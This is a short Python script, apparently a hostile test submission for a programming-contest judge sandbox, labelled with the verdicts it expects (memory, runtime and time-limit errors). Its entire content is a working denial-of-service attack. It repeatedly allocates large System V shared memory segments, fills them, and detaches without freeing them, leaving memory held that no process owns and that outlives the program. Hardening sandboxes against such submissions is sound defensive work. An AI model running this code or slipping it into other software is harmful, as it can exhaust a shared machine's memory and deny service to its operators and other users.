# attack: System V shared memory, filled and let go of, so that no process has it
# verdict: MLE RTE TLE
# On a busy machine the kernel may look for memory to free until the time is up.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
while True:
    segment = libc.shmget(0, 16_000_000, 0o1600)
    if segment < 0:
        raise SystemExit(1)
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, 16_000_000)
    libc.shmdt(address)
